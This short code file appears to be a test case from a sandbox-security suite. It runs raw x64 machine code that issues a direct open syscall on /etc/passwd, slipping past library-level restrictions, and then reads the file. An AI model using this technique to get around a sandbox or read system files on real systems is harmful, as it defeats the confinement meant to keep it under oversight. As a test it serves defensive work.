// attack: Opens a file from machine code of its own, past every library.
// group: processes
// at none: gets-through
// uses: native
// needs: x64

var path = Native.Text("/etc/passwd");
// mov rdi,path; xor esi,esi; mov eax,2; syscall; ret
Native.Read(Native.Run([0x48, 0xBF, .. BitConverter.GetBytes(path), 0x31, 0xF6, 0xB8, 2, 0, 0, 0, 0x0F, 0x05, 0xC3]))
